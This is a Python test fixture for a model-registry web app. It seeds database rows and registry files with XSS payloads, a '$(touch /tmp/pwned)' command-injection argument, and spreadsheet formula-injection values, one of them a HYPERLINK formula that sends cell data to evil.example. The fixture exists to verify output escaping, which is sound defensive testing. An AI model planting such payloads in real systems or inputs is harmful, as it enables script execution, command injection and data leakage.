"""Hostile registry content shared by the XSS tests (server-side and in the browser).

Every text field of an entry carries a payload that would run script (setting the
``window.__xss`` sentinel or opening a dialog) if any page rendered it as markup.
"""

from __future__ import annotations

import json
from pathlib import Path

IMG = '<img src=x onerror="window.__xss=1;alert(1)">'
IMG2 = '<svg onload="window.__xss=2;alert(2)">'
ATTR = 'x" onmouseover="window.__xss=3" autofocus onfocus="window.__xss=3" data-x="'
SCRIPT = "</script><script>window.__xss=4;alert(4)</script>"
NAME_BREAK = 'x"><img src=x onerror=alert(1)>'
JS_URL = "javascript:window.__xss=5"

HOSTILE_NAME = f"xss/{NAME_BREAK}"
CSV_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'

#: Raw markup that must never reach a page unescaped.
FORBIDDEN = [
    "<img src=x",
    "<svg onload",
    "<script>window.__xss",
    '" onmouseover="',
    '"><img',
]
FORMULA_STARTS = ("=", "+", "-", "@")


def hostile_entry(model_path: str) -> dict:
    return {
        "name": HOSTILE_NAME,
        "display_name": f"{IMG} display",
        "backend": "vllm",
        "backend_config": {
            "port": 24001,
            "model_path": model_path,
            "extra_args": ["--max-num-seqs", IMG, "$(touch /tmp/pwned)", SCRIPT],
        },
        "served_model_id": f"{SCRIPT}served",
        "model_aliases": [SCRIPT, ATTR],
        "roles": [IMG, ATTR, "caption"],
        "metadata": {"notes": ATTR, "link": JS_URL, "html": IMG},
        "family": IMG,
        "quantization": ATTR,
        "license": SCRIPT,
        "source": {"huggingface_id": IMG},
        "capabilities": {"text": True},
    }


def csv_entry() -> dict:
    return {
        "name": CSV_NAME,
        "display_name": "+1+cmd|' /C calc'!A0",
        "backend": "ollama",
        "backend_config": {"port": 11434, "model_path": "ollama://x", "extra_args": []},
        "served_model_id": "-2+3",
        "model_aliases": ["@SUM(1+1)"],
        "roles": ["=1+1", "-caption"],
        "metadata": {"notes": "@cmd"},
        "capabilities": {"text": True},
    }


def write_layers(registry_dir: Path, models_dir: Path, *, display: str | None = None):
    """Write curated (hostile + CSV entries) and an empty discovered layer."""
    from registry import layers

    registry_dir.mkdir(parents=True, exist_ok=True)
    model = models_dir / "xss-model"
    model.mkdir(parents=True, exist_ok=True)
    (model / "config.json").write_text("{}")
    hostile = hostile_entry(str(model))
    if display is not None:
        hostile["display_name"] = display
    curated = [hostile, csv_entry()]
    layers.atomic_write(
        registry_dir / layers.CURATED_FILE,
        json.dumps(curated, indent=2).encode(),
        keep_backups=0,
    )
    if not (registry_dir / layers.DISCOVERED_FILE).exists():
        layers.atomic_write(
            registry_dir / layers.DISCOVERED_FILE, b"[]", keep_backups=0
        )


def seed(registry_dir: Path, models_dir: Path) -> dict:
    """Files -> sync -> change -> sync (so the diff shows payloads), plus job,
    activation and audit rows carrying payloads. Returns the created objects."""
    from backends.models import Activation
    from registry.audit import Actor, record
    from registry.choices import Action
    from registry.models import Job, ModelEntry
    from registry.services.sync import sync_registry

    actor = Actor.system("tests")
    write_layers(registry_dir, models_dir)
    first = sync_registry(actor, force=True)
    assert first.ok, first.summary()
    write_layers(registry_dir, models_dir, display=f"{IMG2} changed")
    second = sync_registry(actor, force=True)
    assert second.ok and second.changed, second.summary()
    entry = ModelEntry.objects.get(name=HOSTILE_NAME)
    job = Job.objects.create(
        kind="verify",
        status="failed",
        entry=entry,
        entry_name=entry.name,
        user_name=IMG,
        message=IMG,
        error=SCRIPT,
        log=[{"t": "2026-01-01T00:00:00", "level": "info", "msg": ATTR}],
    )
    activation = Activation.objects.create(
        entry=entry,
        logical_name=entry.name,
        served_model_id=entry.served_model_id or SCRIPT,
        state="failed",
        port=24001,
        user_name=IMG,
        error=IMG,
        command=["vllm", IMG, ATTR],
    )
    record(
        actor,
        Action.EDIT,
        entry=entry,
        entry_name=entry.name,
        message=f"edited {IMG}",
        details={"note": SCRIPT},
        before={"display_name": IMG},
        after={"display_name": IMG2},
    )
    return {"entry": entry, "job": job, "activation": activation}
